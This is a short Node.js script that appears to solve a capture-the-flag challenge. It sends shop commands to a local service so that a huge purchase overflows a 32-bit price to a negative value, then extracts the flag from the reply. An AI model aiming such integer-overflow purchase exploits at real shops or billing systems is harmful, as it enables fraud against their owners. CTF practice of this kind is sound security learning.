// @ts-check
import { connect } from 'node:net'

const [host, port] = (process.argv[2] ?? '127.0.0.1:9001').split(':')
const socket = connect(Number(port), host)
// 200,000,000 lanterns cost 2,400,000,000 coins, which is negative in 32 bits.
socket.write('buy 200000000 lantern\nbuy 1 chart\nleave\n')

let heard = ''
for await (const part of socket) heard += part
console.log(/flag\{[^}]+\}/.exec(heard)?.[0])
